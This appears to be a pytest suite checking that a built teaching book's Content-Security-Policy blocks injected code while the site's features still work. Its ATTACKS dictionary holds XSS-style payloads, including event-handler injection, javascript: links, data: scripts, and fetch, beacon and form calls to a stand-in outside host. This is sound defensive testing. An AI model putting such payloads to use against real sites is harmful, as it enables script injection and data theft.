"""The policy of every page: all that a reader does works under it, and what gets in does not run."""

from __future__ import annotations

import contextlib
import functools
import http.server
import re
import subprocess
import sys
from pathlib import Path

import pytest
from built_site import FRAMES, PAGES, ROOT, page_soup, served

CHAPTER = "book/04_policy_gradient"
SHORT = "book/references"
# What is blocked is told to the test, also by the pages that are opened next in the same tab.
LISTEN = """document.addEventListener('securitypolicyviolation', (e) => planrlBlocked(
  `${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber} ${e.sample}`))"""


@pytest.fixture(scope="module")
def policy():
    import policy

    return policy


# --- What a page becomes
def a_page(policy, head="", body=""):
    scripts = {}
    page = f'<!DOCTYPE html><html><head><meta charset="utf-8" />{head}</head><body>{body}</body></html>'
    return policy.guarded(page, "../_static/", scripts), scripts


def test_scripts_of_the_head_become_one_file_before_what_needs_them(policy):
    head = "<script>let a = 1</script><script src='x.js'></script><script type='text/javascript'>(b)</script>"
    page, scripts = a_page(policy, head)
    (name,) = scripts
    assert page.index(f'src="../_static/{name}"') < page.index("x.js")
    assert re.sub(r"\s", "", scripts[name]) == "leta=1;(b);"
    assert not re.search(r"<script[^>]*>[^<]", page)


def test_data_stays_and_scripts_of_the_body_keep_their_places(policy):
    data = '<script type="application/json">{"html": "<b onclick=\\"x()\\">"}</script>'
    page, scripts = a_page(policy, body=f"{data}<p>a</p><script>b()</script><p>c</p>")
    assert data in page
    assert re.search(r'<p>a</p><script src="../_static/page-\w+\.js"></script><p>c</p>', page)
    assert list(scripts.values()) == ["b()\n;\n"]


def test_the_policy_stands_before_all_it_is_for_and_once(policy):
    page, _ = a_page(policy, "<link rel='stylesheet' href='x.css'><script>a()</script>")
    assert page.index(policy.META) < page.index("<link")
    assert policy.guarded(page, "../_static/", {}) == page
    assert policy.guarded("<p>no head</p>", "", {}) == f"{policy.META}<p>no head</p>"


def test_the_themes_buttons_name_what_they_do_and_no_other_handler_is_built(policy):
    page, _ = a_page(
        policy,
        body="<p title='a onclick=b()'>x onclick=1</p><button onclick=\"window.print()\">y</button>",
    )
    assert '<button data-press="print">' in page
    assert "x onclick=1" in page
    for handler in ('onclick="other()"', "onclick='window.print(1)'", "onLoad=window.print()"):
        with pytest.raises(Exception, match="its policy would block"):
            a_page(policy, body=f"<button {handler}>y</button>")
    words = re.findall(
        r"^    (\w+): \(\) =>", (ROOT / "book/_static/planrl.js").read_text("utf-8"), re.M
    )
    assert set(policy.PRESSES.values()) <= set(words)


def test_the_promises_name_the_header_for_servers(policy):
    text = " ".join((ROOT / "book/security.md").read_text("utf-8").split())
    assert f"Content-Security-Policy: {policy.HEADER}" in text


# --- The built pages
@pytest.mark.book
@pytest.mark.parametrize("name", [*PAGES, "index"])
def test_no_script_stands_in_a_page_and_its_policy_comes_first(name, built, policy):
    page = page_soup(name)
    assert len(page.select("meta[http-equiv=Content-Security-Policy]")) == 1
    first = page.select_one("meta[http-equiv=Content-Security-Policy]")
    assert first["content"] == policy.POLICY
    assert [tag.name for tag in first.find_all_previous(["script", "link", "style", "img"])] == []
    for script in page.find_all("script"):
        assert script.get("src") or script.get("type") == "application/json", script
    for tag in page.find_all(True):
        assert not [name for name in tag.attrs if name.startswith("on")], tag.name
        assert not re.match(r"\s*javascript:", f"{tag.get('href')}", re.I), tag


class Server(http.server.SimpleHTTPRequestHandler):
    """A server that sends the header, or pages without policy, or one that hears who asks it."""

    header, heard, left_out = "", None, ""

    def log_message(self, *_):
        """Say nothing."""

    def end_headers(self):
        if self.header:
            self.send_header("Content-Security-Policy", self.header)
        super().end_headers()

    def do_GET(self):
        said = "window.ran?.push('a script from elsewhere')"
        if self.heard is not None:
            self.heard.append(self.path)
        elif self.left_out and self.path.endswith(".html"):
            said = Path(self.translate_path(self.path)).read_text("utf-8")
            assert self.left_out in said
            said = said.replace(self.left_out, "")
        else:
            super().do_GET()
            return
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        kind = "text/javascript" if self.path.endswith("js") else "text/html"
        self.send_header("Content-Type", kind)
        self.end_headers()
        self.wfile.write(said.encode())

    do_POST = do_GET  # noqa: N815


@contextlib.contextmanager
def serving(**known):
    folder = {"directory": str(known.pop("directory"))} if "directory" in known else {}
    handler = functools.partial(type("Handler", (Server,), known), **folder)
    with served(handler) as address:
        yield address


@pytest.fixture(scope="module")
def strict(built, policy):
    """The built book from a server that sends the header with every file."""
    with serving(directory=built, header=policy.HEADER) as address:
        yield address


@pytest.fixture
def reader(open_page):
    """A tab that hears what is blocked: nothing may have been, at the end."""
    visit = open_page("about:blank", settle=False)
    page, blocked = visit.page, []
    page.expose_binding("planrlBlocked", lambda _, what: blocked.append(what))
    page.add_init_script(LISTEN)
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    yield page
    page.evaluate(FRAMES)
    page.evaluate("localStorage.clear()")
    assert blocked == []
    assert visit.errors == []


def enter(page, address):
    page.goto(address)


@pytest.mark.book
def test_a_lab_is_trained_under_the_header(reader, strict):
    enter(reader, f"{strict}{CHAPTER}.html")
    lab = reader.locator(".planrl-lab")
    lab.scroll_into_view_if_needed()
    lab.get_by_role("button", name="One step", exact=True).click()
    lab.locator(".planrl-lab-status", has_text="Paused at update 1.").wait_for()
    lab.get_by_role("button", name="Train", exact=True).click()
    lab.locator(".planrl-lab-status", has_text="Paused at update 300").wait_for()
    assert lab.locator(".plotly-plot .main-svg, .js-plotly-plot .main-svg").count() > 0


# Each page's own policy is stricter than the header, but for workers, which obey the header alone:
# what follows is under the page's.
@pytest.mark.book
def test_search_finds_and_quotes(reader, origin):
    enter(reader, f"{origin}{SHORT}.html")
    reader.keyboard.press("Control+k")
    reader.keyboard.type("reward")
    reader.keyboard.press("Enter")
    reader.wait_for_url("**/search.html?q=reward")
    reader.locator("#search-results li a[href*='07_reward']").first.wait_for()
    reader.locator("#search-results li p.context").first.wait_for()
    reader.locator("#search-results li a").first.click()
    reader.locator("span.highlighted").first.wait_for(state="attached")


@pytest.mark.book
def test_the_buttons_of_a_page_work(reader, origin):
    enter(reader, f"{origin}{CHAPTER}.html")
    seen = set()
    for _ in range(3):
        reader.locator(".theme-switch-button:visible").first.click()
        seen.add(reader.evaluate("document.documentElement.dataset.theme"))
    assert seen == {"light", "dark"}
    reader.locator(".btn-fullscreen-button").click()
    reader.wait_for_function("document.fullscreenElement")
    reader.locator(".btn-fullscreen-button").click()
    reader.wait_for_function("!document.fullscreenElement")
    reader.evaluate("window.print = () => { window.printed = true; }")
    reader.locator(".dropdown-download-buttons > button").click()
    reader.locator("button.btn-download-pdf-button").click()
    reader.wait_for_function("window.printed")


def copied(reader, cell):
    """What the copy button of a cell puts into the clipboard, and what the cell shows."""
    cell.hover()
    cell.locator("button.copybtn").click()
    cell.locator("button.copybtn.success").wait_for()
    texts = reader.evaluate("navigator.clipboard.readText()"), cell.locator("pre").inner_text()
    return [text.strip() for text in texts]


@pytest.mark.book
def test_what_a_chapter_asks_explains_and_gives_away_works(reader, origin):
    enter(reader, f"{origin}{CHAPTER}.html")
    check = reader.locator(".planrl-check").first
    check.locator("label").first.click()
    assert check.locator(".planrl-feedback:visible").count() == 1
    assert check.locator(".planrl-aloud").inner_text()
    reader.locator(".planrl-symbol:visible").first.hover()
    assert "·" in reader.locator(".planrl-symbol-said").inner_text()
    text, shown = copied(reader, reader.locator("div.highlight:has(button.copybtn):visible").first)
    assert text == shown
    reader.locator(".planrl-cite summary").press("Enter")
    text, _ = copied(reader, reader.locator(".planrl-cite .highlight"))
    assert "@software{planrl," in text
    with reader.expect_download() as download:
        reader.locator("a[download$='.csv']:visible").first.click()
    assert download.value.suggested_filename.endswith(".csv")
    plot = reader.locator(".plotly-figure .plotly-plot").first
    plot.hover()
    with reader.expect_download() as download:
        plot.locator(".modebar-btn").click()
    assert download.value.suggested_filename.endswith(".png")


# --- What gets in
# Each puts something into the page; it would tell `ran`, or the server elsewhere.
ATTACKS = {
    "script": "const s = document.createElement('script'); s.textContent = \"ran.push('script')\"; document.body.append(s)",
    "onerror": "put(`<img src=nowhere.png onerror=\"ran.push('onerror')\">`)",
    "onload": "put(`<svg onload=\"ran.push('onload')\"></svg><style onload=\"ran.push('onload')\"></style>`)",
    "onclick": "put(`<button id=attack1 onclick=\"ran.push('onclick')\">x</button>`); attack1.click()",
    "link": "put(`<a id=attack2 href=\"javascript:void ran.push('link')\">x</a>`); attack2.click()",
    "timer": "setTimeout(\"ran.push('timer')\", 0)",
    "frame": "put(`<iframe srcdoc=\"<script>parent.ran.push('frame')</script>\"></iframe>`)",
    "data": "const s = document.createElement('script'); s.src = \"data:text/javascript,ran.push('data')\"; document.body.append(s)",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('ELSE/worker')`])))",
    "script elsewhere": "const s = document.createElement('script'); s.src = 'ELSE/script.js'; document.body.append(s)",
    "module elsewhere": "import('ELSE/module.js').catch(() => {})",
    "image elsewhere": "put(`<img src=ELSE/image>`)",
    "style elsewhere": "put(`<link rel=stylesheet href=ELSE/style>`)",
    "import elsewhere": "put(`<style>@import 'ELSE/import';</style>`)",
    "fetch elsewhere": "fetch('ELSE/fetch').catch(() => {})",
    "beacon elsewhere": "navigator.sendBeacon('ELSE/beacon')",
    "frame elsewhere": "put(`<iframe src=ELSE/frame></iframe>`)",
    "object elsewhere": "put(`<object data=ELSE/object></object>`)",
    "form elsewhere": "put(`<iframe name=attack3></iframe><form id=attack4 action=ELSE/form target=attack3></form>`); attack4.submit()",
    "base elsewhere": "put(`<base href=ELSE/base/>`); put('<img src=image>')",
}
BEGIN = """window.ran = [];
window.put = (html) => document.body.insertAdjacentHTML('beforeend', html);"""


REACHED = {  # what says that one succeeded, where nothing is in its way
    *("script", "onerror", "onload", "onclick", "link", "timer", "frame", "data"),
    "a script from elsewhere",
    *("/script.js", "/module.js", "/image", "/style", "/import", "/fetch", "/beacon"),
    *("/frame", "/object", "/form", "/base/image", "/worker"),
}
BLOCKED = {  # and what says that all were blocked
    *("script-src-elem", "script-src-attr", "script-src", "img-src", "style-src-elem"),
    *("connect-src", "frame-src", "object-src", "form-action", "base-uri", "worker-src"),
}


@pytest.mark.book
@pytest.mark.parametrize("how", ["page alone", "from the disk", "without"])
def test_what_gets_into_a_page_does_not_run_and_reaches_nobody(
    how, chromium, built, origin, policy
):
    context = chromium.new_context()
    context.set_default_timeout(120_000)
    blocked, heard = [], []
    context.expose_binding("planrlBlocked", lambda _, what: blocked.append(what.split()[0]))
    context.add_init_script(LISTEN)
    page = context.new_page()
    with serving(heard=heard) as elsewhere, serving(directory=built, left_out=policy.META) as bare:
        addresses = {"from the disk": f"{built.as_uri()}/", "without": bare}
        enter(page, f"{addresses.get(how, origin)}{SHORT}.html")
        page.evaluate(BEGIN)
        for code in ATTACKS.values():
            code = code.replace("ELSE", elsewhere.rstrip("/"))
            page.evaluate(f"() => {{ try {{ {code} }} catch (e) {{}} }}")

        def reached():
            return {*page.evaluate("ran"), *(path.split("?")[0] for path in heard)}

        # Without the policy every attack succeeds, else nothing says that these are attacks. Under
        # it each is blocked; what was let through before the last one was, would have been heard.
        done = (lambda: reached() == REACHED) if how == "without" else lambda: {*blocked} >= BLOCKED
        for _ in range(1000):
            if done():
                break
            page.evaluate(FRAMES)
        page.evaluate(FRAMES)
        said = reached()
    context.close()
    if how == "without":
        assert said == REACHED
        assert blocked == []
    else:
        assert {*blocked} >= BLOCKED
        assert said == set()


# --- The maker of plotly's server
SHOWN = """
import plotly.graph_objects as go, plotly.io as pio
from planrl.teaching.notebook import setup
figure = go.Figure(go.Scatter(y=[1, 2]), layout={"height": 300}).to_dict()
for before in (lambda: None, setup):
    before()
    print(pio.renderers["notebook"].to_mimebundle(figure)["text/html"], end="\\0")
"""


@pytest.mark.book
def test_a_figure_in_a_notebook_has_no_button_that_sends_it_away(chromium, built):
    done = subprocess.run(
        [sys.executable, "-c", SHOWN], cwd=ROOT, check=True, capture_output=True, text=True
    )
    plain, ours = done.stdout.split("\0")[:2]
    page = chromium.new_page()
    page.route("**/*", lambda route: route.abort())
    page.set_content("<!DOCTYPE html><meta charset=utf-8><body>")
    page.add_script_tag(content=(built / "_static/plotly.min.js").read_text("utf-8"))
    found = []
    for html in (plain, ours):
        page.evaluate(
            """(html) => { const range = document.createRange(); range.selectNode(document.body);
                 document.body.replaceChildren(range.createContextualFragment(html)); }""",
            html,
        )
        page.locator(".main-svg").first.wait_for(state="attached")
        buttons = page.locator(".modebar-btn")
        names = buttons.evaluate_all("(all) => all.map((b) => b.dataset.title)")
        leaving = [name for name in names if re.search("share|cloud|edit|produced", name, re.I)]
        found.append((len(names), leaving))
    page.close()
    assert len(found[0][1]) == 2, "plotly has no such buttons any more: this test is not needed"
    assert found[1] == (found[0][0] - 2, [])
